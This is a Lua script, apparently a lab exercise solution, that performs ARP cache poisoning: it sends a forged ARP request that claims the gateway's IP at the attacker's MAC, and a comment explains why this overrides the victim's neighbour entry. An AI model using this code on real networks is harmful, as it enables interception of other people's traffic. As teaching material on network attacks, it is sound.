-- A solution to exercise 7 (scripts/lab/arpspoof.lua).
local packet, frame = require "packet", require "frame"

local M = {}

-- A request for the victim's own address, "from" gw_ip at the attacker's
-- MAC: the victim records the asker (neigh_event_ns, overriding whatever
-- it had) before it answers. A reply would be ignored without an entry, or
-- within a second of the last change to one.
function M.poison(attacker, victim, gw_ip)
  local s = packet.open(attacker.ifname, { netns = attacker })
  s:send(frame.build{
    frame.ether{ src = attacker.mac, dst = victim.mac },
    frame.arp{ op = 1, hwsrc = attacker.mac, psrc = gw_ip, pdst = victim.ip },
  })
  s:close()
end

return M
